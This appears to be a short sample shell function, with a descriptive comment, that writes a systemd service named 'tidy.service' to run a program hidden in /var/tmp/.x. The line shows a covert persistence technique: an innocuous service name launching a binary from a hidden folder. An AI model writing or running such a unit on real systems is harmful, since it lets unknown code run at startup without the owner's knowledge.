# A shell writes a unit whose program lies in a hidden folder.
act() { printf '[Service]\nExecStart=/var/tmp/.x/run\n' >/etc/systemd/system/tidy.service; }
